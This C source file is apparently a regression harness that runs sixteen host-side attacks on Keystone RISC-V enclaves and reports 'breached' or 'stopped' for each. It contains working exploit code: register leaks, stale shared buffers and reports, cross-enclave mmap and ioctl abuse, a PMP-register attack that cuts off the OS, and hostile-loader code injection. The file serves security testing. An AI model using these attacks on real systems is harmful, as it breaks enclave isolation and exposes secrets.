/* Attacks of a host on enclaves through the driver and the security monitor: host-breach NAME[,NAME]... EAPP RUNTIME
 * LOADER, with eapp-victim as EAPP; host-breach list. Each succeeds against unmodified Keystone. Those of a hostile
 * supervisor want hostile-loader.bin as LOADER, and a machine where the loader really runs (rvjit run --runtime=guest).
 *
 * Prints a line for each, "breached: WHAT" or "stopped: WHAT". Exit 1 when one is a breach, 0 when none is, 2 for bad input.
 * Enclaves are left behind: several attacks want PMP registers for all. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "aec_abi.h"
#include "edge_host.h"
#include "enclave.h"
#include "victim.h"

const char program_name[] = "host-breach";

enum { FREE_MEMORY = 256 * 1024, UTM = 128 * 1024 };

static struct images images;

static int verdict(int breached, const char *what) {
  printf("%s: %s\n", breached ? "breached" : "stopped", what);
  return breached;
}

static void require(int error, const char *step) {
  if (error) usage_error("%s failed: %s", step, strerror(-error));
}

static struct enclave fresh(void) {
  struct enclave e = {.device = open_device()};
  require(enclave_build(&e, &images, FREE_MEMORY, UTM), "building an enclave");
  return e;
}

static struct host_services asking(uint64_t what) {
  return (struct host_services){.string = "", .arguments = {what}, .argument_count = 1};
}

/* Runs up to the OCALL `call`, which stays unanswered; 0 when the enclave ended without it. */
static int run_to(struct enclave *e, uint64_t what, uint64_t call) {
  struct host_services services = asking(what);
  unsigned long command = KEYSTONE_IOC_RUN;
  for (;;) {
    require(enclave_step(e, command), "the ioctl");
    command = KEYSTONE_IOC_RESUME;
    if (e->error == SM_INTERRUPTED) continue;
    if (e->error != SM_EDGE_CALL_HOST) return 0;
    if (((volatile struct edge_call *)e->utm)->id == call) return 1;
    serve_host_call(e, &services);
  }
}

static uint64_t run_whole(struct enclave *e, uint64_t what) {
  struct host_services services = asking(what);
  require(enclave_run(e, serve_host_call, &services), "running the enclave");
  return e->value;
}

static size_t secrets(const volatile void *memory, size_t bytes) {
  const volatile uint64_t *words = memory;
  size_t found = 0;
  for (size_t i = 0; i < bytes / 8; i++) found += words[i] == VICTIM_SECRET;
  return found;
}

/* ---- Registers that are not swapped ---- */

/* The ioctl with everything around it in one piece, so that no compiled code touches the registers in between. */
static long ioctl_with_registers(struct enclave *e, unsigned long command, uint64_t rounding, uint64_t *fs2) {
  struct keystone_run run = {.eid = e->info.eid};
  register long a0 __asm__("a0") = e->device;
  register unsigned long a1 __asm__("a1") = command;
  register void *a2 __asm__("a2") = &run;
  register long a7 __asm__("a7") = SYS_ioctl;
  uint64_t left;
  __asm__ volatile("fmv.d.x fs2, zero\n\tfsrm %[rounding]\n\tecall\n\tfsrmi 0\n\tfmv.x.d %[left], fs2"
                   : "+r"(a0), [left] "=&r"(left)
                   : "r"(a1), "r"(a2), "r"(a7), [rounding] "r"(rounding)
                   : "fs2", "memory");
  e->error = run.error;
  e->value = run.value;
  if (fs2) *fs2 = left;
  return a0;
}

static uint64_t divided(uint64_t rounding) {
  struct enclave e = fresh();
  struct host_services services = asking(VICTIM_DIVIDE);
  unsigned long command = KEYSTONE_IOC_RUN;
  for (;; command = KEYSTONE_IOC_RESUME) {
    require((int)ioctl_with_registers(&e, command, rounding, NULL), "the ioctl");
    if (e.error == SM_EDGE_CALL_HOST) serve_host_call(&e, &services);
    else if (e.error != SM_INTERRUPTED) return e.value;
  }
}

static int rounding_mode(void) {
  enum { TO_NEAREST = 0, UP = 3 };
  return verdict(divided(UP) != divided(TO_NEAREST), "what an enclave computes under the host's rounding mode");
}

static int float_registers(void) {
  struct enclave e = fresh();
  struct host_services services = asking(VICTIM_HOLD_FLOAT);
  unsigned long command = KEYSTONE_IOC_RUN;
  int seen = 0;
  for (;; command = KEYSTONE_IOC_RESUME) {
    uint64_t left;
    require((int)ioctl_with_registers(&e, command, 0, &left), "the ioctl");
    seen |= left == VICTIM_SECRET;
    if (e.error == SM_EDGE_CALL_HOST) serve_host_call(&e, &services);
    else if (e.error != SM_INTERRUPTED) break;
  }
  return verdict(seen, "an enclave's floating-point registers after its OCALL");
}

/* ---- Enclaves of others ---- */

/* Another open file has not the right to command the enclave. */
static int foreign_enclave(void) {
  struct enclave e = fresh();
  if (!run_to(&e, VICTIM_STOP, CALL_NULL)) usage_error("the victim made no OCALL");
  struct enclave other = {.device = open_device(), .info = e.info, .utm = NULL};
  return verdict(enclave_destroy(&other) == 0, "destroying an enclave through a file that did not make it");
}

static void set_up_region(struct enclave *e) {
  struct aec_setup s = {.eid = e->info.eid, .n_osq = 1, .n_esq = 1, .log2_entries = AEC_MIN_LOG2};
  if (ioctl(e->device, AEC_IOC_SETUP, &s)) usage_error("no rings: %s", strerror(errno));
}

static int foreign_region(void) {
  struct enclave e = fresh();
  set_up_region(&e);
  struct aec_door d = {.eid = (uint32_t)e.info.eid};
  return verdict(ioctl(open_device(), AEC_IOC_TEARDOWN, &d) == 0, "tearing down the rings of an enclave through a file that did not make it");
}

/* The victim's shared buffer, through a page offset of an enclave that is not finalized. */
static int map_offset(void) {
  struct enclave e = fresh();
  if (!run_to(&e, VICTIM_SEND, CALL_NULL)) usage_error("the victim made no OCALL");
  struct enclave own = {.device = open_device()};
  require(enclave_create(&own, &images, FREE_MEMORY), "create");
  const uint8_t *page = enclave_map_page(&own, e.info.utm_paddr - own.info.epm_paddr);
  return verdict(page && secrets(page, KEYSTONE_PAGE) != 0, "another enclave's shared buffer at an offset of mmap");
}

/* ---- Life and death ---- */

static int resume_after_exit(void) {
  struct enclave e = fresh();
  uint64_t first = run_whole(&e, VICTIM_EXIT_TWICE);
  require(enclave_step(&e, KEYSTONE_IOC_RESUME), "the ioctl");
  return verdict(first == 11 && e.error == SM_SUCCESS && e.value == 22, "an eapp behind its own exit");
}

static int stale_shared_buffer(void) {
  struct enclave e = fresh();
  if (!run_to(&e, VICTIM_SEND, CALL_NULL)) usage_error("the victim made no OCALL");
  const uint8_t *kept = e.utm;
  e.utm = NULL;
  require(enclave_destroy(&e), "destroy");
  return verdict(secrets(kept, UTM) != 0, "a destroyed enclave's shared buffer");
}

static int stale_region(void) {
  struct enclave e = fresh();
  set_up_region(&e);
  if (!run_to(&e, VICTIM_SHARE, CALL_NULL)) usage_error("the victim made no OCALL");
  const uint8_t *kept = e.utm;
  e.utm = NULL;
  require(enclave_destroy(&e), "destroy");
  return verdict(secrets(kept, UTM) != 0, "a destroyed enclave's half of the rings");
}

/* Six enclaves take the free PMP registers; the one in the last of them goes. Unmodified Keystone then believes that the
 * register behind it, which grants the operating system its memory, is free as well, and gives both to an enclave whose
 * size is no power of two: no host program executes another instruction. */
static int last_pmp_register(void) {
  enum { FREE_REGISTERS = 6, ODD_BYTES = 3 * 1024 * 1024 };
  struct enclave last = {0};
  for (int i = 0; i < FREE_REGISTERS; i++) last = fresh();
  require(enclave_destroy(&last), "destroy");
  struct enclave odd = {.device = open_device()};
  require(enclave_build(&odd, &images, ODD_BYTES, UTM), "building an odd-sized enclave");
  return verdict(0, "the operating system's own access to memory");
}

/* ---- What others left, and what runs ---- */

static uint8_t kept_report[sizeof(struct keystone_report)];

static void keep_report(struct enclave *e, void *services) {
  const struct edge_call *call = (const struct edge_call *)e->utm;
  if (call->id != CALL_KEEP || call->arg_size > sizeof kept_report) {
    serve_host_call(e, services);
    return;
  }
  memcpy(kept_report, e->utm + call->arg_offset, call->arg_size);
  memset(e->utm + 24, 0, 24); /* OK, no result */
}

static int stale_report(void) {
  struct enclave first = fresh(), second = fresh();
  if (run_whole(&first, VICTIM_ATTEST_LONG) != 0) usage_error("no report");
  struct host_services services = asking(VICTIM_ATTEST_SHORT);
  require(enclave_run(&second, keep_report, &services), "running the enclave");
  const struct keystone_report *report = (const struct keystone_report *)kept_report;
  if (second.value != 0 || report->data_size != 5) usage_error("no report");
  return verdict(secrets(report->data, REPORT_DATA) != 0, "another enclave's data in the tail of a report");
}

/* Whatever of the runtime arrives is its code, or its data: the eapp may read neither. */
static int send_runtime(void) {
  struct enclave e = fresh();
  int arrived = run_to(&e, VICTIM_SEND_RUNTIME, CALL_KEEP);
  const volatile struct edge_call *call = (const volatile struct edge_call *)e.utm;
  return verdict(arrived && call->arg_size == 64 && *(const uint64_t *)(e.utm + call->arg_offset) != 0, "an enclave's runtime, sent by its eapp");
}

static int executable_shared_buffer(void) {
  struct enclave e = fresh();
  uint8_t *code = mmap(NULL, e.utm_size, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_SHARED, e.device, 0);
  if (code == MAP_FAILED) return verdict(0, "code that an enclave put into the shared buffer");
  if (!run_to(&e, VICTIM_SEND_CODE, CALL_NULL)) usage_error("the victim made no OCALL");
  __asm__ volatile("fence.i" : : : "memory");
  long (*function)(void) = (long (*)(void))(code + sizeof(struct edge_call));
  return verdict(function() == VICTIM_CODE_RESULT, "code that an enclave put into the shared buffer");
}

/* ---- Hostile supervisors: hostile_loader.S does what the first words of the shared buffer say ---- */

static uint64_t run_hostile(struct enclave *e, uint64_t command, uint64_t operand) {
  memcpy(e->utm, &command, sizeof command);
  memcpy(e->utm + 8, &operand, sizeof operand);
  unsigned long step = KEYSTONE_IOC_RUN;
  do {
    require(enclave_step(e, step), "the ioctl");
    step = KEYSTONE_IOC_RESUME;
  } while (e->error == SM_INTERRUPTED);
  if (e->error != SM_SUCCESS) usage_error("the hostile enclave ended with %s", sm_error_name(e->error));
  return e->value;
}

extern const uint8_t hostile_code[], hostile_code_end[];
__asm__(".pushsection .rodata\n"
        "hostile_code: li a0, 42\n\tli a6, 3006\n\tli a7, 0x08424b45\n\tecall\n" /* EXIT with VICTIM_CODE_RESULT */
        "hostile_code_end:\n.popsection");

static int jump_into_shared_buffer(void) {
  struct enclave e = fresh();
  memcpy(e.utm + HOSTILE_CODE_OFFSET, hostile_code, (size_t)(hostile_code_end - hostile_code));
  return verdict(run_hostile(&e, HOSTILE_JUMP, 0) == VICTIM_CODE_RESULT, "the host's code in an enclave's S-mode");
}

static int seal_elsewhere(void) {
  struct enclave twin = fresh(), victim = fresh(), attacker = fresh();
  uint64_t sum = run_hostile(&twin, HOSTILE_SUM, 0);
  run_hostile(&attacker, HOSTILE_SEAL, victim.info.user_paddr);
  return verdict(run_hostile(&victim, HOSTILE_SUM, 0) != sum, "another enclave's eapp, overwritten with a sealing key");
}

/* ---- Rings ---- */

/* The enclave's half of the rings begins with the header; its own memory is a page further. */
static uint8_t *header_of_rings(struct enclave *e) { return e->utm + UTM / 2 + UTM / 4; }

static sigjmp_buf refused;

static void on_fault(int signal) { siglongjmp(refused, signal); }

static int can_write(volatile uint64_t *word) {
  const struct sigaction catch = {.sa_handler = on_fault};
  sigaction(SIGSEGV, &catch, NULL);
  sigaction(SIGBUS, &catch, NULL);
  if (sigsetjmp(refused, 1)) return 0;
  *word = ~VICTIM_SECRET;
  return *word == ~VICTIM_SECRET;
}

static int write_rings(void) {
  struct enclave e = fresh();
  set_up_region(&e);
  if (!run_to(&e, VICTIM_SHARE, CALL_NULL)) usage_error("the victim made no OCALL");
  uint8_t *header = header_of_rings(&e);
  int own = can_write((uint64_t *)(header + AEC_PAGE)), state = can_write((uint64_t *)header);
  return verdict(own || state, "an enclave's half of the rings, written by its host");
}

static int run_rings(void) {
  static const char what[] = "code that an enclave put into its half of the rings";
  struct enclave e = fresh();
  set_up_region(&e);
  uint8_t *rings = mmap(NULL, e.utm_size, PROT_READ | PROT_EXEC, MAP_SHARED, e.device, 0);
  if (rings == MAP_FAILED) return verdict(0, what);
  if (!run_to(&e, VICTIM_SHARE_CODE, CALL_NULL)) usage_error("the victim made no OCALL");
  __asm__ volatile("fence.i" : : : "memory");
  long (*function)(void) = (long (*)(void))(rings + (header_of_rings(&e) - e.utm) + AEC_PAGE);
  return verdict(function() == VICTIM_CODE_RESULT, what);
}

static const struct {
  const char *name;
  int (*run)(void);
} attacks[] = {
    {"rounding-mode", rounding_mode},
    {"float-registers", float_registers},
    {"foreign-enclave", foreign_enclave},
    {"map-offset", map_offset},
    {"resume-after-exit", resume_after_exit},
    {"stale-shared-buffer", stale_shared_buffer},
    {"last-pmp-register", last_pmp_register},
    {"stale-report", stale_report},
    {"executable-shared-buffer", executable_shared_buffer},
    {"foreign-region", foreign_region},
    {"stale-region", stale_region},
    {"write-rings", write_rings},
    {"run-rings", run_rings},
    {"send-runtime", send_runtime},
    {"jump-into-shared-buffer", jump_into_shared_buffer},
    {"seal-elsewhere", seal_elsewhere},
};

int main(int argc, char **argv) {
  const size_t count = sizeof attacks / sizeof *attacks;
  if (argc == 2 && strcmp(argv[1], "list") == 0) {
    for (size_t i = 0; i < count; i++) puts(attacks[i].name);
    return 0;
  }
  if (argc != 5) usage_error("usage: host-breach NAME[,NAME]... EAPP-VICTIM RUNTIME LOADER, or host-breach list");
  images = read_images(argv[2], argv[3], argv[4]);
  int result = 0;
  for (char *name = strtok(argv[1], ","); name; name = strtok(NULL, ",")) {
    size_t i = 0;
    while (i < count && strcmp(name, attacks[i].name)) i++;
    if (i == count) usage_error("no attack %s; see host-breach list", name);
    result |= attacks[i].run();
    fflush(stdout);
  }
  return result;
}
